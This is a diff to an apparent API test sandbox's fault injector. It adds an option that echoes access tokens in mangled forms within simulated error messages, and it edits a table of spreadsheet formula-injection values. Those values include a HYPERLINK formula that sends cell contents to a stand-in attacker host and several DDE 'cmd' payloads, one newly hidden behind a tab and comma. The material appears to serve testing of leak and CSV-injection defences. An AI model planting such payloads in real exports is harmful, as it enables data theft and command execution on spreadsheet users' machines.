@@ -18,6 +18,11 @@ export interface FaultSettings {
   errorStatus: number;
   /** The error answer repeats the request URL, token and all, as some careless servers do. */
   echoRequestUrl: boolean;
+  /**
+   * The error answer repeats the token the ways other careless stacks mangle it: Python-quoted
+   * (`/` left as it is), HTML-escaped, cut short, upper-cased, in `\u` escapes.
+   */
+  echoTokenMangled: boolean;
   /** Chance of a 200 whose body is cut short, so it is not JSON. */
   malformedJsonRate: number;
   /** Chance of valid JSON whose first field has the wrong kind (an object). */
@@ -35,6 +40,7 @@ export const NO_FAULTS: FaultSettings = {
   errorRate: 0,
   errorStatus: 503,
   echoRequestUrl: false,
+  echoTokenMangled: false,
   malformedJsonRate: 0,
   schemaBreakRate: 0,
   hangRate: 0,
@@ -44,6 +50,14 @@ export const NO_FAULTS: FaultSettings = {
 
 const rate = z.number().min(0).max(1);
 
+/** The token as a Python service, an HTML template, a log line cut short and an upper-casing proxy write it. */
+function mangledEchoes(token: string): string {
+  const pythonQuoted = encodeURIComponent(token).replace(/%2F/g, '/');
+  const htmlEscaped = token.replace(/&/g, '&amp;').replace(/\+/g, '&#43;').replace(/\//g, '&#x2F;').replace(/=/g, '&#61;');
+  const unicodeEscaped = [...token].map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
+  return ` quote=${pythonQuoted} html=${htmlEscaped} cut=${token.slice(0, 10)} UPPER=${token.toUpperCase()} json=${unicodeEscaped}`;
+}
+
 /** A partial update of the settings, as accepted by PUT /__sandbox/faults and SANDBOX_FAULTS. */
 export const faultSettingsPatchSchema = z
   .strictObject({
@@ -51,6 +65,7 @@ export const faultSettingsPatchSchema = z
     errorRate: rate,
     errorStatus: z.number().int().min(400).max(599),
     echoRequestUrl: z.boolean(),
+    echoTokenMangled: z.boolean(),
     malformedJsonRate: rate,
     schemaBreakRate: rate,
     hangRate: rate,
@@ -90,7 +105,8 @@ function breakSchema(body: unknown): unknown {
 export const FORMULA_VALUES: Readonly<Record<string, string>> = {
   nome: '=HYPERLINK("https://atacante.example/?d="&A2;"Clique aqui")',
   logradouro: "-2+3+cmd|' /C calc'!A0",
-  complemento: '\t=1+1',
+  // A tab first, and after a comma a piece that a comma-locale spreadsheet reads as a cell of its own.
+  complemento: "\t=1+1,=cmd|' /C calc'!A0",
   bairro: "@SUM(1+1)*cmd|' /C calc'!A0",
   cidade: "+55+cmd|' /C calc'!A0",
 };
@@ -143,7 +159,7 @@ export class FaultInjector {
         return new Response(null, { status: NO_ANSWER_STATUS });
       }
       if (fires(settings.errorRate)) {
-        const echo = settings.echoRequestUrl ? ` Requisição: ${c.req.method} ${c.req.url}` : '';
+        const echo = (settings.echoRequestUrl ? ` Requisição: ${c.req.method} ${c.req.url}` : '') + (settings.echoTokenMangled ? mangledEchoes(c.req.query('token') ?? '') : '');
         const mensagem = `Falha simulada pelo sandbox (HTTP ${settings.errorStatus}). Tente novamente mais tarde.${echo}`;
         return c.json(errorBody('falha_simulada', mensagem), settings.errorStatus as ContentfulStatusCode);
       }
